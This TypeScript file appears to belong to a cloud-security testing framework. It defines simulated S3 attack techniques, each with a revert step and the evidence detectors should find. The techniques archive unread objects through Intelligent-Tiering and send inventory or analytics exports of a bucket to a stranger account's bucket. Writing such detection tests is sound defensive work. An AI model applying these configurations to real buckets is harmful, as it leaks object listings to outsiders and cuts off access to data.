import {
  DeleteBucketAnalyticsConfigurationCommand,
  DeleteBucketIntelligentTieringConfigurationCommand,
  DeleteBucketInventoryConfigurationCommand,
  PutBucketAnalyticsConfigurationCommand,
  PutBucketIntelligentTieringConfigurationCommand,
  PutBucketInventoryConfigurationCommand,
} from '@aws-sdk/client-s3';
import { bucketOf } from '../../../functions/isolation/subject';
import { type AttackTechnique, STRANGER } from '../technique';

const inventory = (name: string, destination: string, AccountId?: string): AttackTechnique => ({
  name,
  check: 'storage.reports',
  detonate: async ({ subject, root: { s3 } }) => {
    const of = { Bucket: bucketOf(subject), Id: 'support' };
    await s3.send(
      new PutBucketInventoryConfigurationCommand({
        ...of,
        InventoryConfiguration: {
          ...{ Id: of.Id, IsEnabled: true, IncludedObjectVersions: 'All', Schedule: { Frequency: 'Daily' } },
          Destination: { S3BucketDestination: { Bucket: `arn:aws:s3:::${destination}`, Format: 'CSV', AccountId } },
        },
      }),
    );
    return {
      expectedEvidence: `inventory support lists the bucket’s objects in arn:aws:s3:::${destination}`,
      revert: () => s3.send(new DeleteBucketInventoryConfigurationCommand(of)),
    };
  },
});

export const STORAGE_REPORT_TECHNIQUES: readonly AttackTechnique[] = [
  {
    name: 'archive the objects that nobody has read for three months',
    check: 'storage.lifecycle',
    detonate: async ({ subject, root: { s3 } }) => {
      const of = { Bucket: bucketOf(subject), Id: 'support' };
      const Tierings = [{ Days: 90, AccessTier: 'ARCHIVE_ACCESS' as const }];
      const IntelligentTieringConfiguration = { Id: of.Id, Status: 'Enabled' as const, Tierings };
      await s3.send(new PutBucketIntelligentTieringConfigurationCommand({ ...of, IntelligentTieringConfiguration }));
      return {
        expectedEvidence:
          'configuration support: objects under "" cannot be read when nobody has read them for 90 days',
        revert: () => s3.send(new DeleteBucketIntelligentTieringConfigurationCommand(of)),
      };
    },
  },
  inventory('write an inventory of the bucket into a stranger’s', 'strangers-inventory', STRANGER),
  inventory('write an inventory of the bucket into another of the account', 'support-inventory'),
  {
    name: 'write an analysis of the bucket into a stranger’s',
    check: 'storage.reports',
    detonate: async ({ subject, root: { s3 } }) => {
      const of = { Bucket: bucketOf(subject), Id: 'support' };
      const S3BucketDestination = { Bucket: 'arn:aws:s3:::strangers-analyses', Format: 'CSV' as const };
      const DataExport = { OutputSchemaVersion: 'V_1' as const, Destination: { S3BucketDestination } };
      await s3.send(
        new PutBucketAnalyticsConfigurationCommand({
          ...of,
          AnalyticsConfiguration: { Id: of.Id, StorageClassAnalysis: { DataExport } },
        }),
      );
      return {
        expectedEvidence: 'analysis support lists the bucket’s objects in arn:aws:s3:::strangers-analyses',
        revert: () => s3.send(new DeleteBucketAnalyticsConfigurationCommand(of)),
      };
    },
  },
];
